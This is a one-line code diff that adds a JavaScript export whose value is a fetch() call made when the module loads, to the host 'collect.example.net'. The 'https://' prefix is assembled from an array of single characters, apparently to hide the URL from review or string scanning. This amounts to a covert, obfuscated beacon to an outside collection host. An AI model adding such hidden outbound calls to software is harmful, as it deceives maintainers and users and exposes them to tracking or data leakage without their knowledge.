@@ -1,0 +1,1 @@
+export const t = fetch(["h", "t", "t", "p", "s", ":", "/", "/"].join("") + "collect.example.net");
